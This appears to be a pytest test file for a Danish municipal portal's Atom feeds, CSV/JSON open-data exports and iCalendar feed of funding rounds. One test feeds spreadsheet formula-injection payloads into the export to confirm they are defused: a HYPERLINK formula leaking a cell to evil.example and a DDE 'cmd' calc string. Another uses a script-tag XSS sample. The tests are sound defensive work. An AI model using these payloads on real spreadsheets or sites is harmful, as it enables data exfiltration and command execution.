"""The Atom feeds, the open-data exports (CSV and JSON, with their documented schema and
protection against formula injection) and the iCalendar feed of the ansøgningsrunder."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from ideas import services
from initiatives.models import Indicator, Initiative, Pejlemaerke, Round, Status
from openness.views import IDEA_FIELDS, INITIATIVE_FIELDS, csv_safe
from tests.ideas.helpers import submit

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"


def trial(title, *, owner, unit=None, status=Status.RUNNING, **fields) -> Initiative:
    return Initiative.objects.create(title=title, owner=owner, owning_unit=unit or owner.unit, status=status, **fields)


def body(response) -> str:
    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()


# --- Atom ---------------------------------------------------------------------------------


def entries(client, url) -> list[ET.Element]:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    return ET.fromstring(response.content).findall(f"{ATOM}entry")


def test_the_atom_feed_lists_public_trials_newest_change_first_and_no_drafts(client, initiator):
    older = trial("Ældre forsøg", owner=initiator)
    trial("Kladde", owner=initiator, status=Status.DRAFT)
    trial("Indsendt", owner=initiator, status=Status.SUBMITTED)
    newer = trial("Nyt forsøg", owner=initiator, status=Status.CONCLUDED, outcome="stoppet")

    found = entries(client, reverse("openness:feed"))

    assert [e.findtext(f"{ATOM}title") for e in found] == ["Nyt forsøg", "Ældre forsøg"]
    first = found[0]
    assert first.find(f"{ATOM}link").get("href").endswith(newer.get_absolute_url())
    assert {c.get("term") for c in first.findall(f"{ATOM}category")} == {"Afsluttet", "Stoppet"}
    assert first.findtext(f"{ATOM}updated")
    assert older.pk


def test_a_changed_trial_moves_to_the_top_with_a_new_updated_time(client, initiator):
    first = trial("Første", owner=initiator)
    trial("Anden", owner=initiator)
    before = entries(client, reverse("openness:feed"))[-1].findtext(f"{ATOM}updated")

    first.summary = "Nyt resumé"
    first.save()

    top = entries(client, reverse("openness:feed"))[0]
    assert top.findtext(f"{ATOM}title") == "Første" and top.findtext(f"{ATOM}updated") > before


def test_the_unit_feed_holds_the_unit_and_the_units_below_it(client, initiator, units):
    trial("I Hjemmeplejen", owner=initiator, unit=units["hjemmeplejen"])
    trial("I Jobcentret", owner=initiator, unit=units["jobcenter"])

    center = entries(client, reverse("openness:unit_feed", args=[units["center"].pk]))
    jobcenter = entries(client, reverse("openness:unit_feed", args=[units["jobcenter"].pk]))

    assert [e.findtext(f"{ATOM}title") for e in center] == ["I Hjemmeplejen"]
    assert [e.findtext(f"{ATOM}title") for e in jobcenter] == ["I Jobcentret"]
    assert client.get(reverse("openness:unit_feed", args=[999999])).status_code == 404


def test_the_feed_summary_reaches_a_reader_as_text_not_markup(client, initiator):
    trial("Forsøg", owner=initiator, summary="<script>alert(1)</script> & mere")

    summary = entries(client, reverse("openness:feed"))[0].find(f"{ATOM}summary")

    assert summary.get("type") == "html"
    # Once XML-decoded the HTML is still escaped: a reader shows the tag, it does not run it.
    assert "&lt;script&gt;" in summary.text and "<script>" not in summary.text


def test_the_public_list_announces_the_feed(client):
    html = client.get(reverse("initiatives:public_list")).content.decode()

    assert (
        f'type="application/atom+xml" title="Prøvehandlinger i Slagelse Kommune" href="{reverse("openness:feed")}"'
        in html
    )


# --- CSV and JSON -------------------------------------------------------------------------


@pytest.fixture
def published(initiator, coordinator):
    running = trial(
        "Spisevenner",
        owner=initiator,
        summary="Fællesspisning.",
        start_date=dt.date(2026, 3, 1),
        risks="Hemmelig risiko",
        resources="Hemmeligt budget",
    )
    running.pejlemaerker.set(Pejlemaerke.objects.filter(number=1))
    Indicator.objects.create(initiative=running, name="Ensomme", unit="antal", baseline=40, target="12.50")
    trial("Kladde", owner=initiator, status=Status.DRAFT)
    idea, _ = submit(title="Besøgsven", description="Frivillige.", name="Karen", email="karen@example.dk")
    services.idea_publish(idea_id=idea.pk, actor=coordinator)
    submit(title="Ikke offentliggjort")
    return running


def test_the_json_export_has_exactly_the_documented_public_fields(client, published):
    response = client.get(reverse("openness:initiatives_json"))

    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    data = json.loads(body(response))
    assert data["skema"]["felter"] == [f.name for f in INITIATIVE_FIELDS]
    [record] = data["poster"]
    assert list(record) == [f.name for f in INITIATIVE_FIELDS]
    assert record["titel"] == "Spisevenner" and record["status"] == "i_gang"
    assert record["startdato"] == "2026-03-01"
    assert record["indikatorer"] == [{"navn": "Ensomme", "maaleenhed": "antal", "udgangspunkt": 40, "maal": 12.5}]
    assert len(record["pejlemaerker"]) == 1
    assert record["url"] == settings.SITE_URL + published.get_absolute_url()
    assert "Hemmelig" not in body(client.get(reverse("openness:initiatives_json")))


def test_the_csv_export_has_a_header_row_of_the_documented_fields_and_public_rows_only(client, published):
    response = client.get(reverse("openness:initiatives_csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = body(response)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == [f.name for f in INITIATIVE_FIELDS]
    assert len(rows) == 2 and rows[1][2] == "Spisevenner"
    assert "Ensomme [antal]: 40 → 12.5" in rows[1]
    assert "Hemmelig" not in text and "Kladde" not in text


def test_the_idea_exports_hold_published_ideas_and_never_the_submitter(client, published):
    data = json.loads(body(client.get(reverse("openness:ideas_json"))))
    text = body(client.get(reverse("openness:ideas_csv")))

    assert [r["titel"] for r in data["poster"]] == ["Besøgsven"]
    assert list(data["poster"][0]) == [f.name for f in IDEA_FIELDS]
    for private in ("Karen", "karen@example.dk", "Ikke offentliggjort"):
        assert private not in json.dumps(data, ensure_ascii=False) and private not in text


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_defused(client, initiator, prefix):
    formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Klik")'
    trial(formula, owner=initiator, summary=f"{prefix}cmd|' /C calc'!A0")

    rows = list(csv.reader(io.StringIO(body(client.get(reverse("openness:initiatives_csv")))[1:])))

    assert rows[1][2] == "'" + formula
    assert rows[1][3].startswith("'" + prefix)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)


def test_numbers_and_ordinary_text_are_left_alone():
    assert csv_safe(-5) == -5
    assert csv_safe("Helt almindelig tekst - med bindestreg") == "Helt almindelig tekst - med bindestreg"
    assert csv_safe("") == ""


def test_the_schema_is_documented_in_docs_and_on_the_open_data_page(client):
    docs = (Path(settings.BASE_DIR) / "docs" / "opendata.md").read_text()
    page = client.get(reverse("openness:index")).content.decode()

    for field in (*INITIATIVE_FIELDS, *IDEA_FIELDS):
        assert f"`{field.name}`" in docs, field.name
        assert f"<code>{field.name}</code>" in page


def test_the_open_data_page_describes_the_fields_in_the_readers_language(client):
    danish = client.get(reverse("openness:index"), headers={"Accept-Language": "da"}).content.decode()
    english = client.get(reverse("openness:index"), headers={"Accept-Language": "en"}).content.decode()

    assert "<td>heltal</td><td>Prøvehandlingens nummer i portalen.</td>" in danish
    assert "<td>integer</td><td>The trial&#x27;s number in the portal.</td>" in english
    assert "<code>borgerens_problem</code>" in english  # the data's own names stay Danish


def test_the_export_stays_at_a_fixed_number_of_queries_however_many_trials(
    client, initiator, django_assert_max_num_queries
):
    for n in range(30):
        trial(f"Forsøg {n}", owner=initiator).pejlemaerker.set(Pejlemaerke.objects.all())

    with django_assert_max_num_queries(6):
        body(client.get(reverse("openness:initiatives_json")))


# --- iCalendar ----------------------------------------------------------------------------


@pytest.fixture
def rounds(db):
    spring = Round.objects.create(
        title="Forårsrunden; 2026, ældre",
        description="Søg om midler\ntil forsøg.",
        opens_on=dt.date(2099, 2, 1),
        application_deadline=dt.date(2099, 3, 1),
        review_deadline=dt.date(2099, 3, 20),
        committee_meeting_on=dt.date(2099, 4, 15),
    )
    old = Round.objects.create(
        title="Gammel runde",
        opens_on=dt.date(2001, 1, 1),
        application_deadline=dt.date(2001, 2, 1),
        review_deadline=dt.date(2001, 3, 1),
        committee_meeting_on=dt.date(2001, 4, 1),
    )
    return spring, old


def test_the_calendar_has_all_day_events_for_each_rounds_dates_and_committee_meeting(client, rounds):
    spring, _old = rounds

    response = client.get(reverse("openness:rounds_ical"))

    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    text = response.content.decode()
    assert text.startswith("BEGIN:VCALENDAR\r\n") and text.endswith("END:VCALENDAR\r\n")
    assert "\n" not in text.replace("\r\n", "")  # every line ends in CRLF
    unfolded = text.replace("\r\n ", "")
    events = re.findall(r"BEGIN:VEVENT\r\n(.*?)END:VEVENT", unfolded, re.S)
    assert len(events) == 4  # the old round is left out
    meeting = next(e for e in events if "udvalgsmoede" in e)
    assert f"UID:runde-{spring.pk}-udvalgsmoede@" in meeting
    assert "DTSTART;VALUE=DATE:20990415\r\n" in meeting and "DTEND;VALUE=DATE:20990416\r\n" in meeting
    assert "SUMMARY:Økonomiudvalgets møde: Forårsrunden\\; 2026\\, ældre\r\n" in meeting
    assert "DESCRIPTION:Søg om midler\\ntil forsøg.\r\n" in meeting
    assert "DTSTART;VALUE=DATE:20990301" in next(e for e in events if "ansoegningsfrist" in e)
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))


def test_a_moved_deadline_keeps_its_calendar_uid(client, rounds):
    spring, _ = rounds
    before = re.findall(r"UID:(\S+)", client.get(reverse("openness:rounds_ical")).content.decode())

    Round.objects.filter(pk=spring.pk).update(application_deadline=dt.date(2099, 3, 5))

    after = client.get(reverse("openness:rounds_ical")).content.decode()
    assert re.findall(r"UID:(\S+)", after) == before
    assert "DTSTART;VALUE=DATE:20990305" in after
